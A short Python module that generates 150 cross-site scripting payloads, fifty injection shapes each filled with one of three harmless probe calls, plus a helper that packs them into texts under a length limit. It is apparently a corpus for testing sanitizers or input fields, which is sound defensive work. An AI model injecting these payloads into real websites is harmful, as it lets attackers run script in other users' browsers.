"""150 ways to smuggle a script into a text: fifty shapes, each calling in three ways."""
from __future__ import annotations

SHAPES = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<scr<script>ipt>{}</script>", "</script><script>{}</script>",
    "\"><script>{}</script>", "'><script>{}</script>", "</textarea><script>{}</script>", "</title><script>{}</script>",
    "</style><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "<script\x0c>{}</script>",
    "<script/x>{}</script>", "<script src=data:,{}></script>", "<svg><script>{}</script></svg>",
    "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "\"><img src=x onerror={}>", "'><img src=x onerror={}>",
    "<img/src=x/onerror={}>", "<IMG SRC=x ONERROR={}>", "<img src=`x` onerror={}>", "<svg onload={}>",
    "<svg/onload={}>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>", "<select autofocus onfocus={}>", "<details open ontoggle={}>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<a href=\"java&#115;cript:{}\">x</a>", "<a href=\"java\tscript:{}\">x</a>",
    "[x](javascript:{})", "javascript:{}", "data:text/html,<script>{}</script>", "\" onmouseover={} x=\"",
    "' onfocus={} autofocus x='", "<marquee onstart={}>", "<form><button formaction=javascript:{}>x</button></form>",
    "<math><mtext><script>{}</script></mtext></math>", "<base href=javascript:{}//>",
    "{{{{constructor.constructor('{}')()}}}}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
)
CALLS = ("alert(1)", "ran(1)", "print()")
PAYLOADS = tuple(shape.format(call) for shape in SHAPES for call in CALLS)


def packed(limit: int) -> list[str]:
    """All payloads in as few texts of at most `limit` characters as they fit into."""
    texts = [""]
    for payload in PAYLOADS:
        joined = f"{texts[-1]} {payload}".strip()
        if len(joined) <= limit:
            texts[-1] = joined
        else:
            texts.append(payload)
    return texts
